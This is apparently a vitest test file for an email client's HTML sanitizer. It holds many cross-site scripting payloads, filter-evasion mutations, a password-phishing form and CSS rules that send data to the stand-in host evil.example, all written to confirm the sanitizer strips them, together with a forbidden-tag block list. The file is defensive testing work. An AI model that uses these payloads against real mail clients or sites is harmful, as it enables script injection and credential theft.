import sanitize from "sanitize-html";
import { describe, expect, it, test } from "vitest";
import { toSafeHtml } from "../../connectors/email/reading/safe-html.ts";

/** Elements and attributes of the cleaned mail, as a real parser reads them: with nothing forbidden and nothing left out. */
function read(html: string): { tags: string[]; attributes: [string, string][] } {
  const tags: string[] = [];
  const attributes: [string, string][] = [];
  sanitize(html, {
    ...{ allowedTags: false, allowedAttributes: false, allowVulnerableTags: true },
    onOpenTag(name, found) {
      tags.push(name);
      attributes.push(...Object.entries(found));
    },
  });
  return { tags, attributes };
}

const FORBIDDEN =
  /^(script|style|svg|math|iframe|object|embed|form|input|button|textarea|select|meta|base|link|video|audio|source|template|noscript|xmp|title|animate|set|foreignobject|plaintext|noembed)$/i;

/** The same with other letters, nested, unclosed, broken by what parsers drop, and inside what they read differently. */
const neighbours = (html: string) => [
  html,
  html.toUpperCase(),
  html.replace(/<(\w)/g, "<\u0000$1"),
  html.replace(/<(\w+)/g, "<$1/"),
  html.replace(/<(\w+)/g, "<<$1>$1"),
  html.replace(/<(\w)(\w*)/, "<$1<b>$2"),
  html.replace(/>$/, ""),
  `<div>${html.repeat(3)}</div>`,
  `<table><tr><td>${html}`,
  `<textarea>${html}</textarea>`,
  `<xmp>${html}</xmp>`,
  `<svg><style>${html}</style></svg>`,
  `<math><mtext><table><mglyph><style>${html}`,
  `<noscript><p title="</noscript>${html}">`,
  `<!--><b>${html}<!-- -->`,
  html.replaceAll("javascript:", "java\tscript:"),
  html.replaceAll("javascript:", "&#106;avascript&colon;"),
  html.replaceAll("javascript:", " \u0001javascript:"),
  html.replaceAll("data:", "DaTa:"),
];

const CASES: readonly (readonly [title: string, payloads: readonly string[]])[] = [
  [
    "P37 addresses that carry a document",
    [
      '<a href="data:text/html,<script>alert(1)</script>">a</a>',
      '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    ],
  ],
  [
    "P51 P131 forms in a message, a note or what is opened for editing",
    [
      '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
      '<input form=x formaction="javascript:alert(1)" type=submit>',
      "<select><option>a</select><textarea>b</textarea>",
    ],
  ],
  [
    "P64 styles that read the page or lie over it",
    [
      '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
      '<p style="position:fixed;inset:0;background:url(https://evil.example)">p</p>',
      '<link rel=stylesheet href="https://evil.example/s.css">',
      '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">p</p>',
      "<p style=\"color:red;background-image:u\\72l('https://evil.example')\">p</p>",
    ],
  ],
  [
    "P96 tags inside of tags",
    [
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<<script>script>alert(1)<</script>/script>",
      "<im<img>g src=x onerror=alert(1)>",
    ],
  ],
  [
    "P115 links and pictures that lead into a script",
    [
      '<a href="javascript:alert(1)">a</a>',
      '<img src="javascript:alert(1)">',
      '<a href="vbscript:x">a</a>',
      '<a xlink:href="javascript:alert(1)">a</a>',
    ],
  ],
  [
    "P158 text that some parsers take for text",
    [
      "<xmp><script>alert(1)</script></xmp>",
      "<xmp><img src=x onerror=alert(1)></xmp>",
      "<plaintext><img src=x onerror=alert(1)>",
    ],
  ],
  [
    "P159 addresses in other attributes",
    [
      '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>',
      '<video poster="javascript:alert(1)" src="x"></video>',
      '<img srcset="javascript:alert(1) 1x" ping="https://evil.example">',
      '<table background="javascript:alert(1)"><td background="https://evil.example">x',
    ],
  ],
  [
    "P160 what ends a text field early",
    [
      "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
      "<textarea></textarea ><script>alert(1)</script>",
    ],
  ],
  [
    "P161 an animation that sets an address",
    [
      '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>t</text></a></svg>',
      '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
      '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    ],
  ],
];

describe("S2 markup of strangers", () => {
  test.each(CASES)("%s, with neighbours", (_title, payloads) => {
    for (const html of payloads.flatMap(neighbours)) {
      const safe = toSafeHtml(html) ?? "";
      for (const again of [safe, toSafeHtml(safe) ?? ""]) {
        const { tags, attributes } = read(again);
        expect(
          tags.filter((name) => FORBIDDEN.test(name)),
          html,
        ).toEqual([]);
        for (const [name, value] of attributes) {
          expect(name, html).not.toMatch(
            /^on|^(src(set|doc)|action|formaction|poster|background|ping|data|id|class|name)$|:/i,
          );
          if (name === "href") expect(value.replace(/[\s\p{Cc}]/gu, ""), html).toMatch(/^(https?:|mailto:|tel:|#|$)/i);
          if (name === "style") expect(value, html).not.toMatch(/url|expression|position|behavior|binding|import|\\/i);
        }
      }
    }
  });

  it("P37 P64 P115 what people really send stays: links, tables, colours, pictures inside the mail", () => {
    const mail =
      '<table width="600"><tr><td style="color:#333;padding:8px"><h1>Your order</h1><p>See <a href="https://shop.example/o?a=1&amp;b=2">it</a>, ' +
      '<a href="mailto:help@shop.example">write</a> or <b>call</b>.</p><img src="cid:logo" alt="Logo"></td></tr></table>';
    const { tags, attributes } = read(toSafeHtml(mail) ?? "");
    expect(tags).toEqual(expect.arrayContaining(["table", "tr", "td", "h1", "p", "a", "b", "img"]));
    expect(attributes).toContainEqual(["href", "mailto:help@shop.example"]);
    expect(attributes).toContainEqual(["alt", "Logo"]);
    expect(attributes.some(([name, value]) => name === "style" && value.includes("color"))).toBe(true);
  });
});
